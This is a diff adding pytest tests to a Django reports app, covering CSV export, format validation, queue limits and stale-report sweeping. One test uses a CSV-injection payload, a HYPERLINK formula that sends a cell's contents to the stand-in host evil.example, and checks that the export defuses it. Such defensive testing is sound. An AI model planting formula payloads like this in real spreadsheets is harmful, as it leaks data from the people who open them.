@@ -386,9 +386,8 @@ def test_schema_lists_report_kinds_and_their_params(member: User) -> None:
     )
     kind_enum = components["OrganisationDirectoryReportRequestKindEnum"]
     assert kind_enum["enum"] == ["organisation_directory"]
-    format_field = components["FormatParams"]["properties"]["format"]
-    assert format_field["allOf"] == [{"$ref": "#/components/schemas/FormatEnum"}]
-    assert components["FormatEnum"]["enum"] == ["pdf", "csv"]
+    format_ref = components["FormatParams"]["properties"]["format"]["allOf"][0]["$ref"]
+    assert components[format_ref.rsplit("/", 1)[-1]]["enum"] == ["pdf", "csv"]
 
 
 # --- lists stay cheap; old files go -----------------------------------------------------------
@@ -461,3 +460,82 @@ def test_requesting_from_the_directory_page(member: User) -> None:
     status_panel = client.get(f"/reports/{report.pk}/status/").content.decode()
     assert 'hx-trigger="every 1s"' in status_panel
     assert "Waiting for its turn" in status_panel
+
+
+@pytest.mark.django_db
+def test_csv_cells_that_look_like_formulas_are_defused(
+    media_root: Path, member: User, home_org: Organisation, org_admin: User
+) -> None:
+    from accounts.services import organisation_update
+    from reports.services import report_build, report_request
+
+    organisation_update(
+        organisation=home_org,
+        by=org_admin,
+        version=1,
+        data={"name": '=HYPERLINK("http://evil.example/?"&A2,"open")'},
+    )
+    report = report_request(by=member, kind="organisation_directory", params={"format": "csv"})
+    assert report_build(report_id=report.pk) == "done"
+
+    report.refresh_from_db()
+    rows = list(csv.reader(io.StringIO(report.file.read().decode())))
+    assert rows[1][0] == '\'=HYPERLINK("http://evil.example/?"&A2,"open")'
+
+
+@pytest.mark.django_db
+def test_a_format_the_kind_lacks_is_a_400_through_the_api(member: User) -> None:
+    response = api_as(member).post(
+        "/api/v1/reports/", {"kind": "slow_directory", "params": {"format": "csv"}}, format="json"
+    )
+    assert response.status_code == 400
+    assert response.json() == {
+        "params": ["format: Organisation directory (slow, for tests) is available as PDF."]
+    }
+    assert Report.objects.count() == 0
+
+
+@pytest.mark.django_db
+def test_a_user_cannot_queue_more_than_the_allowed_reports(member: User, settings: Any) -> None:
+    settings.REPORT_MAX_ACTIVE_PER_USER = 2
+    Report.objects.bulk_create(
+        [Report(kind="organisation_directory", requested_by=member) for _ in range(2)]
+    )
+    response = api_as(member).post(
+        "/api/v1/reports/", {"kind": "organisation_directory", "params": {}}, format="json"
+    )
+    assert response.status_code == 400
+    assert response.json() == {
+        "non_field_errors": [
+            "You already have 2 reports being built. Wait for one to finish, then try again."
+        ]
+    }
+    assert Report.objects.count() == 2
+
+
+@pytest.mark.django_db(transaction=True)
+def test_sweep_requeues_lost_reports_and_fails_abandoned_ones(member: User) -> None:
+    import redis
+
+    from reports.services import TOO_SLOW, reports_sweep
+
+    broker = redis.Redis.from_url(settings.CELERY_BROKER_URL)
+    broker.delete("celery")
+    now = timezone.now()
+    lost = Report.objects.create(kind="organisation_directory", requested_by=member)
+    fresh = Report.objects.create(kind="organisation_directory", requested_by=member)
+    abandoned = Report.objects.create(
+        kind="organisation_directory",
+        requested_by=member,
+        status=ReportStatus.RUNNING,
+        started_at=now - timezone.timedelta(hours=2),
+    )
+    Report.objects.filter(pk=lost.pk).update(created=now - timezone.timedelta(minutes=30))
+
+    assert reports_sweep(now=now) == {"requeued": 1, "failed": 1}
+
+    assert broker.llen("celery") == 1
+    broker.delete("celery")
+    assert Report.objects.get(pk=fresh.pk).status == ReportStatus.QUEUED
+    abandoned.refresh_from_db()
+    assert (abandoned.status, abandoned.error) == (ReportStatus.FAILED, TOO_SLOW)
